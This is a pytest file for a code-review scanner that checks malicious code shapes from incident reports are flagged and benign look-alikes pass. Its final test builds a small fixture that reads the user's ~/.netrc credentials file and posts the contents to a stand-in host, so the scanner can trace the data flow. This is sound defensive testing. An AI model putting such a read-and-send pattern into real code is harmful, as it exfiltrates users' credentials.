"""The review on shapes from public incident reports and on benign code that looks like them.

A review of each would cost most of a minute of CPU time. So the rules are applied here to each case alone, with the trees
of all scripts from one start of Node.js; the slow tests take each case through the gate.
"""

# ruff: noqa: E501 -- code in one line

from __future__ import annotations

import shutil
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest
from tests import malware_shapes
from tests.gate import Files, Gate, real_gate
from tests.incident_shapes import MISSED, REPORTS, SHAPES
from tests.lookalikes import LOOKALIKES

from builderd.code.sources import Kind
from builderd.review.scanners.tripwire import javascript, patterns, python_code
from builderd.review.scanners.tripwire.commands import Commands
from builderd.review.scanners.tripwire.python_code import flow_rules

CASES = {name: (row.files, row.entrypoint) for name, row in SHAPES.items()}
GOAL = 0.95


@pytest.fixture(scope="module")
def gate() -> Iterator[Gate]:
    with real_gate() as made:
        yield made


@pytest.fixture(scope="module")
def trees(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, Mapping[str, dict[str, object]]]:
    """Trees of all scripts by case and path, from one start of Node.js."""
    node = shutil.which("node")
    if node is None:
        pytest.skip("Node.js is not on this machine")
    folder = tmp_path_factory.mktemp("scripts")
    found: dict[str, dict[str, dict[str, object]]] = {}
    scripts = [
        (name, path, text)
        for cases in (CASES, LOOKALIKES)
        for name, (files, _) in _scripts(cases).items()
        for path, text in files.items()
    ]
    for number, (_, _, text) in enumerate(scripts):
        (folder / str(number)).write_text(str(text))
    _, read = javascript.read_scripts([node], folder, [], list(range(len(scripts))), 60)
    assert read is not None
    for number, (name, path, _) in enumerate(scripts):
        found.setdefault(name, {})[path] = read[number]
    return found


def _scripts(cases: Mapping[str, tuple[Files, str]]) -> dict[str, tuple[Files, str]]:
    return {name: case for name, case in cases.items() if case[1].startswith("node")}


def _python(cases: Mapping[str, tuple[Files, str]]) -> dict[str, tuple[Files, str]]:
    return {name: case for name, case in cases.items() if case[1].startswith("python")}


def rules_of_scripts(files: Files, trees: Mapping[str, dict[str, object]]) -> set[str]:
    hits = flow_rules.follow({path: javascript.translate(tree) for path, tree in trees.items()}).hits
    found = {hit.rule for hit in hits}
    for text in map(str, files.values()):
        found |= {match.rule for match in patterns.matches(Kind.JAVASCRIPT, text)}
    return {rule for rule in found if rule.startswith(("MAL-", "RSK-"))}


def rules_of_python(files: Files) -> set[str]:
    seen = python_code.analyse_all({path: str(text).encode() for path, text in files.items()}, list(files))
    found = set()
    for facts in seen.values():
        found |= {rule for rule, *_ in facts["hits"]}
        found |= {match.rule for match in patterns.in_strings(facts["strings"])}
        for _, command in facts["commands"]:
            commands = Commands()
            commands.run(command)
            found |= {hit.rule for hit in commands.hits}
    return {rule for rule in found if rule.startswith(("MAL-", "RSK-"))}


def _params(cases: Mapping[str, tuple[Files, str]]) -> list[object]:
    return [
        pytest.param(
            name, id=name, marks=[pytest.mark.xfail(reason=MISSED[name], strict=True)] if name in MISSED else []
        )
        for name in cases
    ]


@pytest.mark.parametrize("name", _params(_python(CASES)))
def test_python_shape_is_found(name: str) -> None:
    assert rules_of_python(CASES[name][0])


@pytest.mark.parametrize("name", _params(_scripts(CASES)))
def test_script_shape_is_found(trees: Mapping[str, Mapping[str, dict[str, object]]], name: str) -> None:
    assert rules_of_scripts(CASES[name][0], trees[name])


@pytest.mark.parametrize("name", _python(LOOKALIKES))
def test_python_lookalike_is_not_found(name: str) -> None:
    assert rules_of_python(LOOKALIKES[name][0]) == set()


@pytest.mark.parametrize("name", _scripts(LOOKALIKES))
def test_script_lookalike_is_not_found(trees: Mapping[str, Mapping[str, dict[str, object]]], name: str) -> None:
    assert rules_of_scripts(LOOKALIKES[name][0], trees[name]) == set()


@pytest.mark.slow
@pytest.mark.parametrize("name", [name for name in CASES if name not in MISSED])
def test_shape_does_not_pass_the_gate(gate: Gate, name: str) -> None:
    found = gate.review(*CASES[name]).verdict.open
    assert [finding for finding in found if finding.rule.startswith(("MAL-", "RSK-"))]


@pytest.mark.slow
@pytest.mark.parametrize("name", LOOKALIKES)
def test_lookalike_passes_the_gate(gate: Gate, name: str) -> None:
    assert gate.review(*LOOKALIKES[name]).verdict.open == ()


def test_corpus_reaches_its_goal() -> None:
    """The misses are strictly expected to fail, so these figures are those of the rules."""
    shapes = len(SHAPES) + len(malware_shapes.SHAPES)
    missed = len(MISSED) + len(malware_shapes.MISSED)
    assert shapes >= 150
    assert (shapes - missed) / shapes >= GOAL
    assert len(LOOKALIKES) >= 60
    assert {row.report for row in SHAPES.values()} <= set(REPORTS)


def test_figures_of_the_docs_are_true() -> None:
    stopped = len(SHAPES) - len(MISSED)
    said = Path("docs/review.md").read_text()
    assert f"has {len(SHAPES)} shapes of malicious code from {len(REPORTS)} public incident reports" in said
    assert f"{stopped} are stopped" in said
    assert f"none of {len(LOOKALIKES)} look-alikes" in said


def test_finding_shows_the_way_of_the_data(gate: Gate) -> None:
    files = {
        "app.py": "import os\nfrom taken import read\nfrom sent import send\ntext = read(os.path.expanduser('~/.netrc'))\nsend(text)\n",
        "taken.py": "def read(path):\n    with open(path) as file:\n        return file.read()\n",
        "sent.py": "import requests\n\n\ndef send(data):\n    requests.post('https://example.com', data=data)\n",
    }
    (finding,) = gate.review(files).verdict.open
    assert (finding.rule, finding.path, finding.line) == ("MAL-secrets-sent", "sent.py", 5)
    assert finding.message.endswith("taken.py:2 → app.py:4 → app.py:5 → sent.py:5")
